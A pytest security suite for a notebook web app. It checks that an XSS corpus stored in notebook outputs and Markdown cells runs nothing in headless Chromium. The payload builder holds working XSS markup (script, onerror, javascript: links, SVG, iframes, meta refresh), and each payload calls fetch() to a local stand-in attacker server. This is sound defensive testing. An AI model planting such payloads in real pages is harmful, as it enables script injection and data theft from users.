"""Nothing in a notebook file runs code in the notebook app (web/notebook/), in headless Chromium.

An XSS corpus (script, onerror, javascript: URLs, iframes, SVG with script, meta refresh, form action, remote
loads) sits in a notebook's saved outputs (text/html, image/svg+xml, text/markdown) and in its Markdown cells.
Opened through each way a notebook reaches the app (?open=URL, the Open… upload, the IndexedDB autosave after a
reload), it runs nothing: no dialog, no global set, no request leaving the app's origin (a second local server
stands in for the attacker and counts what reaches it). The sanitizer keeps what is harmless, a re-run cell's
output is the kernel's again (trusted), and the app's own rich outputs still render under its CSP."""
import json
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest

from webtorch_devtools.chromium import launch
from webtorch_devtools.notebook_app import CSP, NotebookServer

from notebook_ui import (KERNEL_BOOT_MS, cells, full_screenshot, new_notebook, open_app, outputs_summary, run_code,
                         screenshot_if_failed, wait_done)

PNG_1PX = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAAAAAA6fptVAAAACklEQVR4nGNgAAAAAgAB4iG8MwAAAABJRU5ErkJggg=="


class Attacker:
    """A server on another port: every request that reaches it is a request that left the app."""

    def __init__(self):
        hits = self.hits = []

        class Handler(BaseHTTPRequestHandler):
            def log_message(self, *args):
                pass

            def do_GET(self):
                hits.append(self.path)
                self.send_response(200)
                self.send_header("Access-Control-Allow-Origin", "*")
                self.send_header("Content-Length", "0")
                self.end_headers()

            do_POST = do_GET

        self.httpd = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.httpd.server_address[1]}"
        threading.Thread(target=self.httpd.serve_forever, daemon=True).start()

    def close(self):
        self.httpd.shutdown()
        self.httpd.server_close()


def payloads(att):
    """name -> markup that, if it ran, would set window.__xss_<name>, open a dialog or reach the attacker."""
    js = lambda n: f"window.__xss_{n}=1;alert('{n}');fetch('{att}/{n}')"  # noqa: E731
    return {
        "script": f"<script>{js('script')}</script>",
        "onerror": f'<img src="x" onerror="{js("onerror")}">',
        "jsurl": f'<a class="bait" href="javascript:{js("jsurl")}">click me</a>',
        "iframe": f'<iframe src="{att}/iframe"></iframe><iframe srcdoc="<script>parent.__xss_srcdoc=1;parent.alert(1)'
                  f'</script>"></iframe>',
        "svg": f'<svg xmlns="http://www.w3.org/2000/svg" onload="{js("svgonload")}"><script>{js("svgscript")}</script>'
               f'<image href="{att}/svgimage" width="5" height="5"/><a href="javascript:{js("svglink")}">'
               f'<text class="bait" x="0" y="10">svg link</text></a></svg>',
        "meta": f'<meta http-equiv="refresh" content="0;url={att}/meta">',
        "form": f'<form action="{att}/form" method="get"><input name="q" value="1"><button class="bait" '
                f'type="submit">send</button></form><button class="bait" formaction="javascript:{js("formaction")}">'
                f'go</button>',
        "remote": f'<img src="{att}/img"><object data="{att}/object"></object><embed src="{att}/embed">'
                  f'<div style="background:url({att}/css)">styled</div><link rel="stylesheet" href="{att}/link">',
        "base": f'<base href="{att}/base/">',
    }


SAFE_HTML = '<b id="safe-bold">kept</b><table><tr><td>cell</td></tr></table>'
SAFE_SVG = '<svg xmlns="http://www.w3.org/2000/svg" width="20" height="20"><circle id="safe-circle" cx="10" cy="10" r="8"/></svg>'


def xss_notebook(att):
    p = payloads(att)
    every = "".join(p.values())
    md_payload = every + f"\n\n[md link](javascript:{p['script']})\n\n![md image]({att}/mdimage)\n\n**md bold**"
    cell = lambda i, source, outputs: {"cell_type": "code", "id": f"c{i}", "metadata": {}, "execution_count": i,  # noqa: E731
                                       "source": source, "outputs": outputs}
    display = lambda data: {"output_type": "display_data", "metadata": {}, "data": data}  # noqa: E731
    return {"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": [
        {"cell_type": "markdown", "id": "m0", "metadata": {}, "source": "# XSS corpus\n\n" + md_payload},
        cell(1, "from IPython.display import HTML\nHTML('<b id=\"rerun-bold\">from the kernel</b>')",
             [{"output_type": "execute_result", "execution_count": 1, "metadata": {},
               "data": {"text/html": every + SAFE_HTML, "text/plain": "HTML"}}]),
        cell(2, "'svg'", [display({"image/svg+xml": p["svg"], "text/plain": "svg"}),
                          display({"image/svg+xml": SAFE_SVG, "text/plain": "safe svg"})]),
        cell(3, "'markdown'", [display({"text/markdown": md_payload, "text/plain": "md"})]),
        cell(4, "'image'", [display({"image/png": PNG_1PX, "text/plain": "png"})]),
        *[cell(5 + i, f"'{name}'", [display({"text/html": html, "text/plain": name})])
          for i, (name, html) in enumerate(p.items())],
    ]}


@pytest.fixture(scope="module")
def shots(tmp_path_factory):
    return tmp_path_factory.mktemp("notebook_security_screenshots")


@pytest.fixture(scope="module")
def attacker():
    a = Attacker()
    yield a
    a.close()


@pytest.fixture(scope="module")
def xss_path(tmp_path_factory, attacker):
    path = tmp_path_factory.mktemp("xss") / "xss.ipynb"
    path.write_text(json.dumps(xss_notebook(attacker.url), indent=1))
    return path


@pytest.fixture(scope="module")
def server(xss_path):
    s = NotebookServer(xss_path)
    yield s
    s.close()


@pytest.fixture(scope="module")
def browser(webtorch_playwright):
    b = launch(webtorch_playwright)
    yield b
    b.close()


@pytest.fixture(scope="module")
def watched(browser, server):
    """One page (a fresh profile: empty IndexedDB) that records dialogs, page errors and every request that
    does not go to the app's own origin."""
    context = browser.new_context(viewport={"width": 1280, "height": 900})
    pg = context.new_page()
    pg.dialogs, pg.errors = [], []
    pg.on("dialog", lambda d: (pg.dialogs.append(d.message), d.dismiss()))
    pg.on("pageerror", lambda e: pg.errors.append(str(e)))
    _watch_requests(pg, server)
    pg.popups = []
    context.on("page", lambda p: pg.popups.append(p.url))
    yield pg
    context.close()


def _watch_requests(pg, server):
    """pg.foreign: requests to anywhere but the app's origin (a URL that survived sanitizing, e.g. a remote
    <img src>, is requested by the page and must be stopped by the CSP before it leaves)."""
    pg.foreign = []
    pg.on("request", lambda r: None if r.url.startswith((server.url, "data:", "blob:")) else pg.foreign.append(r))


def _left(requests):
    """The foreign requests the browser did not block itself (Chromium's failure text for a CSP block: "csp")."""
    return [(r.url, r.failure) for r in requests if r.failure != "csp"]


@pytest.fixture(autouse=True)
def screenshot_on_failure(request, shots):
    yield
    screenshot_if_failed(request, shots, "watched")


# everything that can run script, load something or navigate; none may survive into the notebook's DOM
_DOM_AUDIT = """() => {
  const root = document.getElementById('notebook');
  const bad = [...root.querySelectorAll('script, iframe, object, embed, meta, form, base, link, style')]
    .map((e) => e.tagName);
  for (const e of root.querySelectorAll('*')) {
    for (const a of e.attributes) {
      if (a.name.startsWith('on')) bad.push(`${e.tagName} ${a.name}`);
      if (/^\\s*javascript:/i.test(a.value)) bad.push(`${e.tagName} ${a.name}=${a.value.slice(0, 30)}`);
    }
  }
  return bad;
}"""


def _assert_ran_nothing(page, server, attacker, shots, name):
    page.wait_for_selector("#safe-bold")
    for bait in page.locator("#notebook .bait").all():  # a user clicking the links and buttons
        bait.click(force=True, no_wait_after=True)
    page.wait_for_timeout(1500)  # time for an onerror, a refresh or a request to happen
    full_screenshot(page, shots / f"xss-{name}.png")
    assert page.dialogs == [], page.dialogs
    assert page.evaluate("() => Object.keys(window).filter((k) => k.startsWith('__xss'))") == []
    assert attacker.hits == [], attacker.hits
    assert _left(page.foreign) == [], _left(page.foreign)
    assert getattr(page, "popups", []) == []
    assert page.url.startswith(server.url + "/web/notebook/index.html"), page.url
    assert page.evaluate(_DOM_AUDIT) == []
    # the harmless parts survive sanitizing
    assert page.inner_text("#safe-bold") == "kept"
    assert page.locator("#safe-circle").count() == 1
    assert page.locator(".output img.image-output").count() >= 1
    assert page.locator(".cell.markdown.rendered-md strong", has_text="md bold").count() == 1
    saved = sum(len(c.get("outputs", [])) for c in xss_notebook(attacker.url)["cells"])
    assert page.locator(".output[data-trusted=false]").count() == saved
    assert page.locator(".output[data-trusted=true]").count() == 0


def test_csp_header_is_sent(server):
    import urllib.request
    with urllib.request.urlopen(server.url + "/web/notebook/kernel_worker.js") as r:
        csp = r.headers["Content-Security-Policy"]
    assert csp.startswith(CSP) and "frame-ancestors 'none'" in csp and "'unsafe-eval'" not in csp


def test_opened_by_url_runs_nothing(watched, server, attacker, shots):
    open_app(watched, server.app_url)
    _assert_ran_nothing(watched, server, attacker, shots, "open-url")


def test_restored_from_autosave_runs_nothing(watched, server, attacker, shots):
    watched.wait_for_function("() => document.getElementById('save-state').textContent === 'autosaved'")
    watched.reload()
    watched.wait_for_selector("body[data-kernel=idle]", timeout=KERNEL_BOOT_MS)
    assert "nb=url-" in watched.url  # reopened from IndexedDB, not fetched again
    _assert_ran_nothing(watched, server, attacker, shots, "autosave")


def test_uploaded_file_runs_nothing(browser, server, attacker, shots, xss_path):
    context = browser.new_context(viewport={"width": 1280, "height": 900})
    pg = context.new_page()
    pg.dialogs = []
    pg.on("dialog", lambda d: (pg.dialogs.append(d.message), d.dismiss()))
    _watch_requests(pg, server)
    try:
        open_app(pg, f"{server.url}/web/notebook/index.html")
        pg.set_input_files("#open-input", str(xss_path))
        pg.wait_for_function("() => document.getElementById('nb-name').value === 'xss'")
        _assert_ran_nothing(pg, server, attacker, shots, "upload")
    finally:
        context.close()


def test_a_rerun_cell_shows_the_kernels_output_trusted(watched, shots):
    """Jupyter's trust: re-running the cell replaces its sanitized file output with the kernel's own."""
    cell = cells(watched).nth(1)
    assert cell.locator(".output").get_attribute("data-trusted") == "false"
    cell.locator(".cm-content").click()
    watched.keyboard.press("Control+Enter")
    wait_done(watched)
    assert cell.locator(".output").count() == 1
    assert cell.locator(".output").get_attribute("data-trusted") == "true"
    assert watched.inner_text("#rerun-bold") == "from the kernel"


def test_the_apps_own_rich_outputs_render_under_the_csp(watched, shots):
    new_notebook(watched)
    out = run_code(watched, "import torch\nfrom webtorch.notebook import LinePlot, show_image, tqdm, display\n"
                            "from IPython.display import HTML, SVG\n"
                            "p = LinePlot(title='loss')\nfor i in tqdm(range(5), desc='steps'):\n"
                            "    p.append(i, loss=1 / (i + 1))\nshow_image(torch.rand(3, 8, 8))\n"
                            "display(HTML('<i id=\"kernel-html\">kernel html</i>'))\n"
                            f"SVG('''{SAFE_SVG.replace('safe-circle', 'kernel-circle')}''')")
    s = outputs_summary(watched)
    full_screenshot(watched, shots / "own-rich-outputs.png")
    assert "Error" not in out, out
    first = cells(watched).nth(0)
    assert first.locator(".uplot").count() == 1 and first.locator("progress").count() == 1
    assert first.locator("img.image-output").count() == 1
    assert watched.inner_text("#kernel-html") == "kernel html" and watched.locator("#kernel-circle").count() == 1
    assert s["errors"] == [] and watched.errors == [] and watched.dialogs == []
